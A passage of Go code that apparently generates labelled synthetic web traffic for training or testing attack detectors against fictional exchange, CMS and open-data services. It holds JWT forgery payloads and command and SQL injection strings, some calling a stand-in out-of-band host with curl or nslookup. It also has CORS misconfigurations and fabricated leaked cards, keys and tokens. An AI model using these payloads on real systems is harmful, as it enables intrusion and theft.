		c["exp"] = h7Base.Add(time.Duration(60+i*5) * 24 * time.Hour).Unix()
		addTok(h7JWT(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_1"}, c), 200)
	}
	// kid injection.
	kids := []string{
		"../../../../../../dev/null",
		"/proc/sys/kernel/randomize_va_space",
		"../../../../../../../../etc/hostname",
		"x' UNION SELECT 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'-- -",
		"0001' OR '1'='1",
		"key1|curl http://x7k2.oast.example/k",
		"$(id)",
		"2026-11-key_1; sleep 10",
		"k && whoami",
		"`nslookup x7k2.oast.example`",
		"../../../../../../../usr/share/zoneinfo/UTC",
		"key_1' AND SLEEP(5)#",
	}
	for i, k := range kids {
		e, c := next()
		order = append(order, e)
		h := map[string]any{"alg": "HS256", "typ": "JWT", "kid": k}
		hs, ps := seg(h), seg(c)
		key := ""
		if i == 3 {
			key = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
		}
		addTok(hs+"."+ps+"."+sign(hs, ps, key), []int{200, 401, 200}[i%3])
	}
	// jku / x5u pointing at untrusted or internal hosts.
	kus := []struct{ k, v string }{
		{"jku", "https://x7k2.oast.example/.well-known/jwks.json"},
		{"jku", "http://127.0.0.1:8080/jwks.json"},
		{"jku", "https://auth.coinvault.test.attacker.example/jwks.json"},
		{"x5u", "https://x7k2.oast.example/cert.pem"},
		{"jku", "https://auth.coinvault.test@x7k2.oast.example/jwks.json"},
		{"x5u", "http://169.254.169.254/latest/meta-data/"},
		{"jku", "https://raw.githubusercontent.com/h4x0r-lab/keys/main/jwks.json"},
		{"jku", "http://10.0.4.12/keys"},
		{"x5u", "https://pastebin.com/raw/Kx72hQ1a"},
		{"jku", "https://jwks.attacker-keys.example/k.json"},
	}
	for i, ku := range kus {
		e, c := next()
		order = append(order, e)
		h := map[string]any{"alg": "RS256", "typ": "JWT", ku.k: ku.v, "kid": "attacker-" + fmt.Sprint(i)}
		hs, ps := seg(h), seg(c)
		addTok(hs+"."+ps+"."+h7B64URL([]byte(g.alnum(256))), []int{200, 200, 401}[i%3])
	}
	// Embedded jwk.
	for i := 0; i < 6; i++ {
		e, c := next()
		order = append(order, e)
		jwk := map[string]any{"kty": "RSA", "e": "AQAB", "kid": "embedded-" + fmt.Sprint(i), "n": h7B64URL([]byte(g.alnum(256)))}
		if i%2 == 1 {
			jwk = map[string]any{"kty": "oct", "k": h7B64URL([]byte("attacker-chosen-secret-" + fmt.Sprint(i)))}
		}
		h := map[string]any{"alg": []string{"RS256", "HS256"}[i%2], "typ": "JWT", "jwk": jwk}
		hs, ps := seg(h), seg(c)
		addTok(hs+"."+ps+"."+h7B64URL([]byte(g.alnum(200))), 200)
	}
	// Expired and alg none at once; an escalated role with no signature.
	for i := 0; i < 4; i++ {
		e, c := next()
		order = append(order, e)
		c["role"] = "admin"
		c["exp"] = h7Base.Add(-72 * time.Hour).Unix()
		addTok(seg(map[string]any{"alg": "none"})+"."+seg(c)+".", 200)
	}
	for i, t := range toks {
		e := order[i]
		a := g.atk(w, e.host, false)
		hdr := h7Hdr("Authorization", "Bearer "+t.tok)
		if i%7 == 3 {
			hdr = h7Hdr("Authorization", "bearer "+t.tok)
		}
		if e.body != "" {
			hdr["Content-Type"] = []string{"application/json"}
		}
		resp := `{"ok":true}`
		if t.status == 401 {
			resp = `{"error":"invalid_token"}`
		} else if e.method == "GET" {
			resp = `{"data":[{"id":1}]}`
		}
		st := t.status
		if st == 200 && e.method == "POST" {
			st = 201
		}
		g.add(a, e.method, "https://"+e.host+e.path, hdr, e.body, st, nil, resp, h7DetJWT)
	}
}

// h7Leaks are error bodies that give the internals away.
var h7Leaks = []struct{ ct, body string }{
	{"text/plain", "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x7a1c2e]\n\ngoroutine 4127 [running]:\ngithub.com/coinvault/matching/internal/book.(*Book).Cancel(0x0, {0xc0004a2f30, 0xb})\n\t/build/internal/book/book.go:211 +0x2e\nmain.(*server).cancelOrder(0xc000152000, {0xa4e1c0, 0xc0003c81c0}, 0xc00041e000)\n\t/build/cmd/api/orders.go:88 +0x1b4\n"},
	{"application/json", `{"timestamp":"2026-11-24T09:12:44.120+00:00","status":500,"error":"Internal Server Error","trace":"java.lang.NullPointerException: Cannot invoke \"com.metrocity.data.Dataset.getSchema()\" because \"ds\" is null\n\tat com.metrocity.data.rows.RowService.query(RowService.java:212)\n\tat com.metrocity.data.rows.RowController.rows(RowController.java:64)\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)\n","path":"/api/v2/datasets/zzzz-0000/rows"}`},
	{"text/html", "<!doctype html><html lang=\"en\"><head><title>HTTP Status 500 – Internal Server Error</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><hr class=\"line\" /><p><b>Type</b> Exception Report</p><p><b>Message</b> Request processing failed</p><p><b>Exception</b></p><pre>org.springframework.web.util.NestedServletException: Request processing failed; nested exception is java.lang.IllegalArgumentException: No enum constant com.metrocity.transit.Mode.BOAT\n\torg.springframework.web.servlet.FrameworkServlet.processRequest(FrameworkServlet.java:1014)\n</pre><hr class=\"line\" /><h3>Apache Tomcat/9.0.83</h3></body></html>"},
	{"text/html", "<!DOCTYPE html><html><head><title>KeyError at /api/v2/geo/features</title></head><body><div id=\"summary\"><h1>KeyError at /api/v2/geo/features</h1><pre class=\"exception_value\">'layer'</pre><table class=\"meta\"><tr><th>Django Version:</th><td>4.2.16</td></tr><tr><th>Exception Location:</th><td>/srv/opendata/geo/views.py, line 57, in features</td></tr></table></div><div id=\"explanation\"><p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p></div></body></html>"},
	{"application/json", `{"error":"Traceback (most recent call last):\n  File \"/srv/opendata/api/query.py\", line 142, in run_query\n    rows = engine.execute(stmt)\n  File \"/usr/lib/python3.12/site-packages/sqlalchemy/engine/base.py\", line 1418, in execute\n    return meth(self, distilled_params)\nValueError: unsupported aggregate 'median'\n"}`},
	{"text/plain", "System.NullReferenceException: Object reference not set to an instance of an object.\n   at Harbor.Cms.Api.Controllers.CommentsController.Post(Int32 articleId, CommentDto dto) in D:\\a\\cms\\src\\Api\\Controllers\\CommentsController.cs:line 77\n   at lambda_method(Closure , Object , Object[] )\n   at Microsoft.AspNetCore.Mvc.Infrastructure.ActionMethodExecutor.SyncActionResultExecutor.Execute(IActionResultTypeMapper mapper, ObjectMethodExecutor executor, Object controller, Object[] arguments)\n"},
	{"application/json", `{"message":"Cannot read properties of undefined (reading 'slug')","stack":"TypeError: Cannot read properties of undefined (reading 'slug')\n    at buildUrl (/app/src/lib/urls.js:14:28)\n    at /app/src/routes/articles.js:88:31\n    at Layer.handle [as handle_request] (/app/node_modules/express/lib/router/layer.js:95:5)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)"}`},
	{"text/html", "<br />\n<b>Fatal error</b>:  Uncaught Exception: Invalid feed format in /var/www/cms/lib/Import/WxrParser.php:118\nStack trace:\n#0 /var/www/cms/public/index.php(42): Import\\WxrParser-&gt;parse()\n#1 {main}\n  thrown in <b>/var/www/cms/lib/Import/WxrParser.php</b> on line <b>118</b><br />\n"},
	{"text/html", "<br />\n<b>Warning</b>:  Undefined array key \"section\" in <b>/var/www/cms/api/v1/articles.php</b> on line <b>31</b><br />\n{\"data\":[]}"},
	{"application/json", `{"status":500,"error":"NoMethodError: undefined method 'name' for nil:NilClass","backtrace":["app/controllers/api/v1/authors_controller.rb:19:in 'show'","actionpack (7.1.3) lib/action_controller/metal/basic_implicit_render.rb:6:in 'send_action'"]}`},
	{"text/plain", "thread 'tokio-runtime-worker' panicked at src/wallets/withdraw.rs:144:22:\ncalled `Option::unwrap()` on a `None` value\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace\n"},
	{"text/html", "<!DOCTYPE html><html><head><title>Whoops! There was an error.</title></head><body><div class=\"exception\"><h1>Illuminate\\Database\\QueryException</h1><p>SQLSTATE[42S22]: Column not found: 1054 Unknown column 'sort_order' in 'order clause' (SQL: select * from `articles` order by `sort_order` asc limit 20)</p><p>/var/www/cms/vendor/laravel/framework/src/Illuminate/Database/Connection.php:760</p></div></body></html>"},
	{"text/html", "<!-- Symfony\\Component\\HttpKernel\\Exception\\NotFoundHttpException: No route found for \"GET /v1/articles/abc/revisions\" --><!DOCTYPE html><html><head><title>No route found for &quot;GET /v1/articles/abc/revisions&quot; (404 Not Found)</title></head><body><div class=\"exception-summary\"><h2 class=\"exception-message\">No route found</h2><span class=\"exception-class\">Symfony\\Component\\HttpKernel\\Exception\\NotFoundHttpException</span></div><div class=\"trace-file-path\">in /var/www/cms/vendor/symfony/http-kernel/EventListener/RouterListener.php (line 127)</div></body></html>"},
	{"application/json", `{"error":"java.lang.IllegalStateException: Connection pool exhausted","exception":"org.hibernate.exception.JDBCConnectionException: Unable to acquire JDBC Connection"}`},
	{"text/html", "<html><head><title>Server Error in '/' Application.</title></head><body><h1>Server Error in '/' Application.</h1><h2><i>Input string was not in a correct format.</i></h2><b>Exception Details: </b>System.FormatException: Input string was not in a correct format.<br><pre>[FormatException: Input string was not in a correct format.]\n   System.Number.ThrowOverflowOrFormatException(ParsingStatus status, TypeCode type) +54\n   Harbor.Legacy.Reports.Page_Load(Object sender, EventArgs e) in C:\\inetpub\\reports\\Default.aspx.cs:23\n</pre></body></html>"},
	{"application/json", `{"error":"SQLITE_CONSTRAINT: UNIQUE constraint failed: api_keys.label"}`},
	{"application/json", `{"error":"ERROR: relation \"withdrawal_limits\" does not exist (SQLSTATE 42P01)"}`},
	{"application/json", `{"errors":[{"message":"Cannot return null for non-nullable field Article.author.","locations":[{"line":1,"column":42}],"extensions":{"code":"INTERNAL_SERVER_ERROR","exception":{"stacktrace":["Error: Cannot return null for non-nullable field Article.author.","    at completeValue (/app/node_modules/graphql/execution/execute.js:594:13)","    at /app/node_modules/graphql/execution/execute.js:486:9"]}}}]}`},
	{"text/html", "<!DOCTYPE html><html><head><title>ActionController::RoutingError (No route matches [GET] \"/v1/authorz\")</title></head><body><h1>Routing Error</h1><p>No route matches [GET] \"/v1/authorz\"</p><h2>Rails.root: /srv/harbor-cms</h2><div id=\"traces\">actionpack (7.1.3) lib/action_dispatch/middleware/debug_exceptions.rb:31:in 'call'</div></body></html>"},
	{"text/html", "<!DOCTYPE html><html><head><title>werkzeug.exceptions.BadRequestKeyError // Werkzeug Debugger</title></head><body><h1>BadRequestKeyError</h1><div class=\"traceback\"><h3>Traceback <em>(most recent call last)</em>:</h3><pre>File \"/srv/transit/app.py\", line 88, in plan\n  origin = request.args['from']</pre></div><p>The debugger caught an exception in your WSGI application.</p></body></html>"},
	{"application/json", `{"level":"error","msg":"request failed","error":"Error: connect ECONNREFUSED 10.0.3.21:6379\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)"}`},
	{"text/plain", "Exception in thread \"http-nio-8080-exec-7\" java.lang.NumberFormatException: For input string: \"abc\"\n\tat java.base/java.lang.NumberFormatException.forInputString(NumberFormatException.java:67)\n\tat java.base/java.lang.Long.parseLong(Long.java:711)\n\tat com.coinvault.api.orders.OrderController.get(OrderController.java:51)\n"},
	{"application/json", `{"error":"goroutine 88 [running]:\nruntime/debug.Stack()\n\t/usr/local/go/src/runtime/debug/stack.go:26 +0x5e\ngithub.com/metrocity/transit/api.recoverer.func1()\n\t/src/api/middleware.go:41 +0x85\n"}`},
	{"text/html", "<pre>Error: ENOENT: no such file or directory, open '/app/templates/newsletter/weekly.hbs'<br> &nbsp; &nbsp;at Object.openSync (node:fs:573:18)<br> &nbsp; &nbsp;at Object.readFileSync (node:fs:452:35)<br> &nbsp; &nbsp;at renderNewsletter (/app/src/newsletter.js:22:19)</pre>"},
	{"application/json", `{"error":"file:///app/dist/server/handlers/media.mjs:41\n    const ext = upload.name.split('.').pop();\n                            ^\nTypeError: Cannot read properties of null (reading 'name')\n    at handleUpload (file:///app/dist/server/handlers/media.mjs:41:29)"}`},
	{"application/json", `{"error":"PHP Notice:  Undefined index: per_page in /var/www/opendata/api/rows.php on line 19"}`},
	{"text/html", "<h1>Internal Server Error</h1><h2>ZeroDivisionError: division by zero</h2><pre>Traceback (most recent call last):\n  File \"/srv/opendata/stats.py\", line 31, in ratio\n    return a / b\nZeroDivisionError: division by zero</pre>"},
	{"application/json", `{"error":"NameError: uninitialized constant Api::V1::ExportsController::CsvStreamer","backtrace":["app/controllers/api/v1/exports_controller.rb:12:in 'create'"]}`},
	{"application/json", `{"error":"pq: invalid input syntax for type uuid: \"latest\""}`},
	{"application/json", `{"error":"Error 1146 (42S02): Table 'coinvault.order_audit_2026_11' doesn't exist"}`},
	{"application/json", `{"error":"ORA-00942: table or view does not exist"}`},
	{"application/json", `{"error":"SqlException (0x80131904): Invalid column name 'PublishedUtc'.\n   at Microsoft.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection)"}`},
	{"application/json", `{"debug":true,"exception":"Doctrine\\DBAL\\Exception\\TableNotFoundException","message":"An exception occurred while executing a query: SQLSTATE[42P01]: Undefined table: 7 ERROR:  relation \"media_variants\" does not exist","file":"/var/www/cms/vendor/doctrine/dbal/src/Driver/API/PostgreSQL/ExceptionConverter.php","line":77}`},
	{"application/json", `{"message":"Server Error","exception":"ErrorException","file":"/var/www/opendata/app/Http/Controllers/ExportController.php","line":64,"trace":[{"file":"/var/www/opendata/vendor/laravel/framework/src/Illuminate/Routing/Controller.php","line":54,"function":"export"}]}`},
	{"application/json", `{"error":"sql: converting argument $1 type: unsupported type []interface {}, a slice of interface"}`},
	{"text/plain", "Traceback (most recent call last):\n  File \"/usr/local/lib/python3.12/site-packages/uvicorn/protocols/http/h11_impl.py\", line 406, in run_asgi\n    result = await app(\n  File \"/srv/transit/routes.py\", line 77, in vehicles\n    route = ROUTES[route_id]\nKeyError: 'N-OWL'\n"},
	{"application/json", `{"error":"SQLITE_BUSY: database is locked"}`},
	{"application/json", `{"error":"java.sql.SQLSyntaxErrorException: ORA-00904: \"PUBLISHED_AT\": invalid identifier"}`},
	{"text/plain", "Error: Cannot find module '/app/src/routes/exports'\nRequire stack:\n- /app/src/server.js\n    at Module._resolveFilename (node:internal/modules/cjs/loader:1145:15)\n    at Module._load (node:internal/modules/cjs/loader:986:27)"},
	{"application/json", `{"error":"SQL0204N  \"OPENDATA.PERMITS_2026\" is an undefined name.  SQLSTATE=42704"}`},
	{"application/json", `{"exception":"ActiveRecord::StatementInvalid","message":"PG::UndefinedColumn: ERROR:  column articles.embargo_until does not exist\nLINE 1: SELECT \"articles\".* FROM \"articles\" WHERE \"articles\".\"embargo_until\" > '2026-11-24'\n                                                  ^"}`},
}

// h7OddRequests are requests with nothing of an attack in them that make a
// buggy service fall over.
var h7OddRequests = []struct{ host, method, path, ct, body string }{
	{h7Coin, "DELETE", "/api/v3/orders/77120000001", "", ""},
	{h7Data, "GET", "/api/v2/datasets/zzzz-0000/rows?limit=50", "", ""},
	{h7Data, "GET", "/api/v2/transit/plan?from=37.78,-122.41&to=37.79,-122.40&mode=BOAT", "", ""},
	{h7Data, "GET", "/api/v2/geo/features?bbox=-122.5,37.7,-122.4,37.8", "", ""},
	{h7Data, "POST", "/api/v2/query", "application/json", `{"dataset":"bk3p-9a2f","select":["median(length_m)"]}`},
	{h7CMS, "POST", "/v1/articles/18812/comments", "application/json", `{"body":""}`},
	{h7CMS, "GET", "/v1/articles/20111?include=author", "", ""},
	{h7CMS, "POST", "/v1/import/wxr", "application/xml", `<?xml version="1.0"?><feed/>`},
	{h7CMS, "GET", "/v1/articles?status=published", "", ""},
	{h7CMS, "GET", "/v1/authors/9999", "", ""},
	{h7Coin, "POST", "/api/v3/withdrawals", "application/json", `{"asset":"SOL","amount":"1"}`},
	{h7CMS, "GET", "/v1/articles?sort=sort_order", "", ""},
	{h7CMS, "GET", "/v1/articles/abc/revisions", "", ""},
	{h7Data, "GET", "/api/v2/datasets/7ytq-m2xk/health", "", ""},
	{h7CMS, "GET", "/legacy/reports/Default.aspx?year=abc", "", ""},
	{h7Coin, "POST", "/api/v3/api-keys", "application/json", `{"label":"grid bot","permissions":["read"]}`},
	{h7Coin, "GET", "/api/v3/account/limits", "", ""},
	{h7CMS, "POST", "/v1/graphql", "application/json", `{"query":"{ articles(limit: 5) { id author { name } } }"}`},
	{h7CMS, "GET", "/v1/authorz", "", ""},
	{h7Data, "GET", "/api/v2/transit/plan?to=37.79,-122.40", "", ""},
	{h7Data, "GET", "/api/v2/transit/arrivals?stop_id=STP-00412", "", ""},
	{h7Coin, "GET", "/api/v3/orders/abc", "", ""},
	{h7Data, "GET", "/api/v2/transit/routes/N-OWL/vehicles", "", ""},
	{h7CMS, "POST", "/v1/newsletters/preview", "application/json", `{"template_id":"weekly"}`},
	{h7CMS, "POST", "/v1/media", "application/json", `{"file":null}`},
	{h7Data, "GET", "/api/v2/datasets?per_page=50", "", ""},
	{h7Data, "GET", "/api/v2/stats/ratio?a=5&b=0", "", ""},
	{h7Data, "POST", "/api/v2/datasets/7ytq-m2xk/export", "application/json", `{"format":"csv"}`},
	{h7Data, "GET", "/api/v2/datasets/bk3p-9a2f/versions/latest", "", ""},
	{h7Coin, "GET", "/api/v3/orders/audit?month=2026-11", "", ""},
	{h7Coin, "GET", "/api/v3/account/limits/withdrawal", "", ""},
	{h7CMS, "GET", "/v1/articles?section=city&fields=PublishedUtc", "", ""},
	{h7CMS, "POST", "/v1/media/77/variants", "application/json", `{"width":640}`},
	{h7Data, "GET", "/api/v2/datasets/pz7s-kk41/export.csv", "", ""},
	{h7Coin, "POST", "/api/v3/orders/batch", "application/json", `{"orders":[{"symbol":"BTC-USDT","side":"buy"}]}`},
	{h7Data, "GET", "/api/v2/transit/routes/N-OWL/stops", "", ""},
	{h7Data, "GET", "/api/v2/datasets/bk3p-9a2f/rows?order=published_at", "", ""},
	{h7Data, "GET", "/api/v2/exports", "", ""},
	{h7Data, "GET", "/api/v2/datasets/n4vz-q8rr/permits?year=2026", "", ""},
	{h7CMS, "GET", "/v1/articles?embargo=active", "", ""},
}

func (g *h7Gen) verboseAttacks(w *h7World) {
	for i, l := range h7Leaks {
		r := h7OddRequests[i%len(h7OddRequests)]
		hdr := map[string][]string{}
		if r.ct != "" {
			hdr["Content-Type"] = []string{r.ct}
		}
		var a h7Actor
		switch r.host {
		case h7Coin:
			a = w.traders[(i*7)%len(w.traders)]
		case h7CMS:
			a = w.authors[(i*3)%len(w.authors)]
		default:
			a = w.dataAnon[(i*5)%len(w.dataAnon)]
		}
		g.add(a, r.method, "https://"+r.host+r.path, hdr, r.body, 500, h7Hdr("Content-Type", l.ct, "X-Content-Type-Options", "nosniff"), l.body, h7DetVerb)
	}
	// CORS that lets other origins read credentialed responses.
	cors := []struct{ host, path, origin, acao string }{
		{h7Coin, "/api/v3/wallets", "https://evil-coinvault.example", "https://evil-coinvault.example"},
		{h7Coin, "/api/v3/api-keys", "null", "null"},
		{h7Coin, "/api/v3/account/activity", "https://x7k2.oast.example", "https://x7k2.oast.example"},
		{h7CMS, "/v1/articles?status=draft", "https://attacker.example", "https://attacker.example"},
		{h7CMS, "/v1/users/me", "https://harbortimes.test.attacker.example", "https://harbortimes.test.attacker.example"},
		{h7Data, "/api/v2/admin/harvest-jobs", "https://evil.example", "*"},
		{h7Coin, "/api/v3/withdrawals?limit=20", "null", "null"},
		{h7CMS, "/v1/articles?status=in_review&per_page=50", "https://evil.example", "*"},
		{h7Coin, "/api/v3/fiat/cards", "http://app.coinvault.test", "http://app.coinvault.test"},
		{h7CMS, "/v1/users/me", "http://www.harbortimes.test", "http://www.harbortimes.test"},
	}
	for i, c := range cors {
		var a h7Actor
		switch c.host {
		case h7Coin:
			a = w.traders[(i*11)%len(w.traders)]
		case h7CMS:
			a = w.editors[i%len(w.editors)]
		default:
			a = w.adms[i%len(w.adms)]
		}
		rh := h7JSONHeaders("Access-Control-Allow-Origin", c.acao, "Access-Control-Allow-Credentials", "true", "Vary", "Origin")
		g.add(a, "GET", "https://"+c.host+c.path, h7Hdr("Origin", c.origin, "Cookie", "sid="+g.alnum(32)), "", 200, rh, `{"data":[{"id":1}]}`, h7DetVerb)
	}
}

func (g *h7Gen) pem(kind string) string {
	var lines []string
	for i := 0; i < 8; i++ {
		lines = append(lines, base64.StdEncoding.EncodeToString([]byte(g.alnum(48))))
	}
	return "-----BEGIN " + kind + "-----\n" + strings.Join(lines, "\n") + "\n-----END " + kind + "-----\n"
}

func (g *h7Gen) sensitiveAttacks(w *h7World) {
	type leak struct{ host, method, path, ct, body string }
	card := func(prefix string, n int) string {
		p := prefix
		for len(p) < n-1 {
			p += fmt.Sprint(g.r.Intn(10))
		}
		return h7Luhn(p)
	}
	var ls []leak
	// Cards: fiat rails of the exchange, IDOR on another user's cards.
	for i, pre := range []struct {
		p string
		n int
	}{{"4", 16}, {"51", 16}, {"2221", 16}, {"37", 15}, {"6011", 16}, {"62", 16}, {"6759", 16}, {"2200", 16}, {"4", 16}, {"55", 16}} {
		c := card(pre.p, pre.n)
		switch i % 5 {
		case 0:
			ls = append(ls, leak{h7Coin, "GET", fmt.Sprintf("/api/v3/fiat/cards?user_id=usr_%04d", 1000+i), "application/json", h7JSON(map[string]any{"cards": []map[string]any{{"id": "card_" + g.alnum(14), "card_number": c, "exp_month": 8, "exp_year": 2029, "cvc": fmt.Sprintf("%03d", g.r.Intn(999))}}})})
		case 1:
			ls = append(ls, leak{h7Coin, "GET", fmt.Sprintf("/api/v3/fiat/deposits/dep_%s", g.alnum(16)), "application/json", h7JSON(map[string]any{"deposit_id": "dep_" + g.alnum(16), "amount": 500, "payment_method": map[string]any{"type": "card", "number": c, "holder": "J. Moreau"}})})
		case 2:
			ls = append(ls, leak{h7Coin, "GET", "/api/v3/fiat/payouts/export?month=2026-10", "text/csv", "payout_id,amount,currency,card_number,holder\npo_" + g.alnum(10) + ",1200.00,EUR," + c + ",A. Novak\n"})
		case 3:
			ls = append(ls, leak{h7Coin, "GET", "/api/v3/support/tickets/CV-" + fmt.Sprint(100000+i), "application/json", h7JSON(map[string]any{"ticket": "CV-100003", "messages": []map[string]any{{"from": "agent", "body": "We charged your card " + c[:4] + " " + c[4:8] + " " + c[8:12] + " " + c[12:] + " for the deposit; please confirm."}}})})
		default:
			ls = append(ls, leak{h7Coin, "POST", "/api/v3/fiat/cards/verify", "application/json", h7JSON(map[string]any{"verified": true, "pan": c, "bin_country": "FR"})})
		}
	}
	// Passwords and hashes.
	bcrypt := func() string { return "$2b$12$" + g.alnum(53) }
	ls = append(ls,
		leak{h7CMS, "GET", "/v1/users?role=author&per_page=20", "application/json", h7JSON(map[string]any{"data": []map[string]any{{"id": 311, "email": "dana@harbortimes.test", "password_hash": bcrypt()}, {"id": 312, "email": "lee@harbortimes.test", "password_hash": bcrypt()}}})},
		leak{h7CMS, "GET", "/v1/users/312", "application/json", h7JSON(map[string]any{"id": 312, "email": "lee@harbortimes.test", "password": "Harbor!Times2026"})},
		leak{h7Coin, "GET", "/api/v3/account", "application/json", h7JSON(map[string]any{"id": "usr_9101", "email": "m@mail.example", "pwd_sha256": g.hexs(64), "totp_secret": g.upnum(32)})},
		leak{h7Data, "GET", "/api/v2/admin/users", "application/json", h7JSON(map[string]any{"users": []map[string]any{{"login": "steward1", "hash": "$argon2id$v=19$m=65536,t=3,p=4$" + h7B64URL([]byte(g.alnum(16))) + "$" + h7B64URL([]byte(g.alnum(32)))}}})},
		leak{h7CMS, "GET", "/v1/users?include=credentials", "application/json", h7JSON(map[string]any{"data": []map[string]any{{"username": "webdesk", "password_digest": "pbkdf2_sha256$600000$" + g.alnum(22) + "$" + base64.StdEncoding.EncodeToString([]byte(g.alnum(32)))}}})},
		leak{h7Data, "GET", "/api/v2/admin/datasources", "application/json", h7JSON(map[string]any{"sources": []map[string]any{{"name": "warehouse", "dsn": "postgres://opendata_etl:Wx8!pQ2r7zLm@10.0.3.17:5432/warehouse?sslmode=require"}}})},
		leak{h7CMS, "GET", "/v1/settings/integrations", "application/json", h7JSON(map[string]any{"smtp": map[string]any{"host": "smtp.mailgun.org", "user": "postmaster@mg.harbortimes.test", "password": "6f1b" + g.hexs(28)}})},
		leak{h7Coin, "GET", "/api/v3/admin/config", "application/json", h7JSON(map[string]any{"redis_url": "redis://default:" + g.alnum(24) + "@10.0.5.9:6379/0", "amqp": "amqps://matcher:" + g.alnum(20) + "@mq.internal:5671/"})},
		leak{h7CMS, "GET", "/v1/users/me/sessions", "application/json", h7JSON(map[string]any{"user": "ed-0042", "mysql_dsn": "mysql://cms:" + g.alnum(18) + "@db-primary:3306/harbor"})},
		leak{h7Data, "GET", "/api/v2/admin/users?format=csv", "text/csv", "login,email,password_hash\nsteward1,s1@metrocity.test," + bcrypt() + "\nsteward2,s2@metrocity.test," + bcrypt() + "\n"},
	)
	// Private keys.
	ls = append(ls,
		leak{h7Coin, "GET", "/api/v3/wallets/hot/export", "application/json", h7JSON(map[string]any{"wallet": "hot-eth-1", "signing_key": g.pem("EC PRIVATE KEY")})},
		leak{h7CMS, "GET", "/v1/settings/sso", "application/json", h7JSON(map[string]any{"saml": map[string]any{"sp_cert": g.pem("CERTIFICATE"), "sp_private_key": g.pem("PRIVATE KEY")}})},
		leak{h7Data, "GET", "/api/v2/admin/deploy-keys", "text/plain", g.pem("OPENSSH PRIVATE KEY")},
		leak{h7CMS, "GET", "/.well-known/jwks.json", "application/json", h7JSON(map[string]any{"keys": []map[string]any{{"kty": "RSA", "kid": "cms-2026", "use": "sig", "n": h7B64URL([]byte(g.alnum(256))), "e": "AQAB", "d": h7B64URL([]byte(g.alnum(256))), "p": h7B64URL([]byte(g.alnum(128))), "q": h7B64URL([]byte(g.alnum(128)))}}})},
		leak{h7Coin, "GET", "/api/v3/internal/signer/keys", "application/json", h7JSON(map[string]any{"keys": []map[string]any{{"kty": "EC", "crv": "P-256", "x": h7B64URL([]byte(g.alnum(32))), "y": h7B64URL([]byte(g.alnum(32))), "d": h7B64URL([]byte(g.alnum(32)))}}})},
		leak{h7Data, "GET", "/api/v2/admin/integrations/gcp", "application/json", h7JSON(map[string]any{"type": "service_account", "project_id": "metrocity-open-data", "private_key_id": g.hexs(40), "private_key": g.pem("PRIVATE KEY"), "client_email": "harvester@metrocity-open-data.iam.gserviceaccount.com"})},
		leak{h7Coin, "GET", "/api/v3/admin/backup/tls", "text/plain", g.pem("RSA PRIVATE KEY")},
	)
	// Cloud credentials and provider tokens.
	ls = append(ls,
		leak{h7Data, "GET", "/api/v2/admin/storage", "application/json", h7JSON(map[string]any{"aws_access_key_id": "AKIA" + g.upnum(16), "aws_secret_access_key": g.alnum(40), "bucket": "metrocity-open-data"})},
		leak{h7CMS, "GET", "/v1/settings/media", "application/json", h7JSON(map[string]any{"storage": "DefaultEndpointsProtocol=https;AccountName=harbormedia;AccountKey=" + base64.StdEncoding.EncodeToString([]byte(g.alnum(64))) + ";EndpointSuffix=core.windows.net"})},
		leak{h7CMS, "GET", "/v1/media/upload-url", "application/json", h7JSON(map[string]any{"url": "https://harbormedia.blob.core.windows.net/?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2027-11-24T00:00:00Z&st=2026-11-24T00:00:00Z&spr=https&sig=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(g.alnum(32))))})},
		leak{h7CMS, "GET", "/v1/settings/integrations/slack", "application/json", h7JSON(map[string]any{"bot_token": "xoxb-" + fmt.Sprint(100000000000+g.r.Int63n(899999999999)) + "-" + fmt.Sprint(1000000000000+g.r.Int63n(8999999999999)) + "-" + g.alnum(24)})},
		leak{h7CMS, "GET", "/v1/settings/integrations/ai", "application/json", h7JSON(map[string]any{"provider": "openai", "key": "sk-proj-" + g.alnum(48) + "T3BlbkFJ" + g.alnum(48)})},
		leak{h7CMS, "GET", "/v1/settings/integrations/summaries", "application/json", h7JSON(map[string]any{"provider": "anthropic", "api_key": "sk-ant-api03-" + g.alnum(86) + "-" + g.alnum(6) + "AA"})},
		leak{h7Data, "GET", "/api/v2/admin/ci", "application/json", h7JSON(map[string]any{"repo": "metrocity/open-data-portal", "github_token": "ghp_" + g.alnum(36)})},
		leak{h7Data, "GET", "/api/v2/admin/ci/gitlab", "application/json", h7JSON(map[string]any{"mirror": "https://gitlab.com/metrocity/gtfs", "token": "glpat-" + g.alnum(20)})},
		leak{h7CMS, "GET", "/v1/settings/build", "application/json", h7JSON(map[string]any{"registry": "https://registry.npmjs.org/", "npm_token": "npm_" + g.alnum(36)})},
		leak{h7CMS, "GET", "/v1/settings/shop", "application/json", h7JSON(map[string]any{"shop": "harbortimes-store.myshopify.com", "admin_token": "shpat_" + g.hexs(32)})},
		leak{h7Coin, "GET", "/api/v3/admin/payments", "application/json", h7JSON(map[string]any{"stripe_secret_key": "sk_live_51N" + g.alnum(96), "publishable_key": "pk_live_51N" + g.alnum(96)})},
		leak{h7CMS, "GET", "/v1/settings/subscriptions", "application/json", h7JSON(map[string]any{"square_access_token": "EAAA" + g.alnum(60)})},
		leak{h7Coin, "GET", "/api/v3/api-keys/cvk_" + g.alnum(24), "application/json", h7JSON(map[string]any{"key_id": "cvk_" + g.alnum(24), "api_secret": g.alnum(64), "permissions": []string{"read", "trade", "withdraw"}})},
		leak{h7Coin, "GET", "/api/v3/api-keys?user_id=usr_0001", "application/json", h7JSON(map[string]any{"api_keys": []map[string]any{{"key_id": "cvk_" + g.alnum(24), "secret_key": g.alnum(64)}}})},
		leak{h7Data, "GET", "/api/v2/admin/integrations/github-pat", "application/json", h7JSON(map[string]any{"token": "github_pat_11A" + g.upnum(19) + "_" + g.alnum(59)})},
